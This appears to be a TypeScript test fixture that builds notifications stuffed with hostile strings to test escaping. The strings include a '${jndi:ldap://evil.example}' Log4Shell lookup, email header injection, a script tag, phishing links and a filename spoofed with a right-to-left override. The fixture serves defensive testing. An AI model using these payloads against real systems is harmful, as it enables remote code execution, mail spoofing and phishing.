import type { Notification } from '@airside/domain';

import { notificationWith } from './notification.ts';

/** What callers may put into user names and paths so that a message says or does something else than it should. */
export const HOSTILE_TEXTS = [
  '<!channel> <!here|x> <@U123> <https://evil.example|Reset your password> &lt; & >',
  '@everyone @here @channel @all @octocat alice@example.com',
  '[Reset](https://evil.example) ![x](https://evil.example/p.png) **bold** *b* _i_ ~s~ `c` # h',
  '<script>alert(1)</script><at>all</at><img src=https://evil.example>',
  '``` ```` ~~~~\n```\n/close\n/assign @root\n@octocat #1 org/repo#2 !1',
  'x\r\nBcc: evil@example.com\r\nSubject: other\r\n\r\nbody\r\n.\r\nMAIL FROM:<a@b>',
  '\u001b[31mred\u202egnp.exe\u2028line\u0000',
  '[~admin] {code}h1. x{code} !img! ${jndi:ldap://evil.example}',
  ']]}}"\'\\--><!-- airside-000000000000000000000000 -->',
] as const;

/** A notification with hostile text in every place that callers can reach. */
export function hostileNotification(fields: Partial<Notification> = {}): Notification {
  const all = HOSTILE_TEXTS.join(' ');
  return notificationWith({
    title: all.slice(0, 200),
    text: HOSTILE_TEXTS.join('\n'),
    facts: HOSTILE_TEXTS.map((text) => [text.slice(0, 100), text.slice(0, 500)]),
    commands: HOSTILE_TEXTS.map((text) => `airside callers show ${text}`.slice(0, 500)),
    owners: [...HOSTILE_TEXTS].map((text) => text.slice(0, 200)),
    ...fields,
  });
}
